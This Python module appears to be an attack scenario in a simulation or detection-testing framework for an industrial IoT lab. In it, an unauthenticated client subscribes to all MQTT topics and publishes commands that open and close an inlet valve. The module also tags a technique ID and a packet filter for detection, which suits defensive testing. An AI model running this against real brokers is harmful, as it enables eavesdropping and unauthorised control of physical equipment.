"""An unknown client without credentials opens a valve by MQTT."""

from __future__ import annotations

import paho.mqtt.client as mqtt

from ..clients.sensor_gateway import SITE
from ..node import Node

TITLE = "MQTT commands published by an unknown client without credentials"
TECHNIQUES = ("T1692.001",)
ORIGIN = "laptop"
ENTITIES = ("laptop", "broker", "iot-gateway")
EVIDENCE = "mqtt.msgtype == 3 && ip.src == 10.20.1.99"


def run(node: Node) -> None:
    """Listen to everything for a moment, then publish commands."""
    client = mqtt.Client(mqtt.CallbackAPIVersion.VERSION2, client_id="mqtt-explorer-7f3a")
    client.connect(node.peer("broker"), 1883)
    client.loop_start()
    client.subscribe("#")
    node.pause(0.5)
    for position in (100, 0, 100):
        client.publish(f"{SITE}/valve/inlet/set", f'{{"position": {position}}}', qos=1)
        node.pause(0.7)
    client.disconnect()
    client.loop_stop()
